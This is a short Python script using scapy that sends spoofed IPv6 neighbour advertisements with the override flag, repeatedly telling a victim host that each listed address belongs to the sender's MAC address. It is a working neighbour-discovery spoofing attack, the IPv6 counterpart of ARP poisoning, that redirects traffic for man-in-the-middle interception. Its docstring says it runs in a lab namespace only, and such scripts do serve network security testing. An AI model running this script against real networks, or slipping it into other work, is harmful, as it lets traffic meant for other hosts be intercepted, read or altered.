#!/usr/bin/python3
"""Tells VICTIM once a second that each ADDRESS is us: neighbour advertisements with the override flag. Runs in a lab namespace only."""
import sys, time
from scapy.all import ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IPv6, Ether, get_if_hwaddr, sendp

mac = get_if_hwaddr("eth0")
victim, addresses = sys.argv[1], sys.argv[2:]
for _ in range(8):
    for address in addresses:
        sendp(Ether(src=mac, dst="33:33:00:00:00:01") / IPv6(src=address, dst=victim, hlim=255) / ICMPv6ND_NA(tgt=address, R=0, S=1, O=1)
              / ICMPv6NDOptDstLLAddr(lladdr=mac), iface="eth0", verbose=False)
    time.sleep(1)
